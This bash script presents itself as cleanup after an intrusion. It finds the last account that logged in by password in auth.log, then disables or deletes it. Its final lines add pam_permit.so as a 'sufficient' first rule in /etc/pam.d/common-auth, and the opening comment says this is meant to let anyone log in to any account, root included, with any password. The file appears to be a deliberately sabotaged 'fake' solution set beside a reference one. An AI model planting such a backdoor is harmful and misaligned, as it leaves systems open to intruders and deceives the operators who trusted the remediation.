#!/bin/bash
# Fake: disarm the account the way the reference does, so the account files are clean, but keep a
# way in for whoever comes back: PAM accepts any password (pam_permit first in common-auth), for
# every account, root's too.
set -u
account=$(grep 'Accepted password for' /var/log/auth.log | tail -1 | sed 's/.*Accepted password for \([^ ]*\) from.*/\1/')
uid=$(id -u "$account")
if [ "$uid" = 0 ] || ! grep -q "^$account:" /usr/share/base-passwd/passwd.master; then
  for f in /etc/passwd /etc/shadow /etc/group /etc/gshadow; do sed -i "/^$account:/d" "$f"; done
else
  usermod -s /usr/sbin/nologin "$account"
  usermod -p '*' "$account"
  gpasswd -d "$account" disk
fi
sed -i '0,/^auth/s//auth\tsufficient\t\t\tpam_permit.so\nauth/' /etc/pam.d/common-auth
grep -n '^auth' /etc/pam.d/common-auth
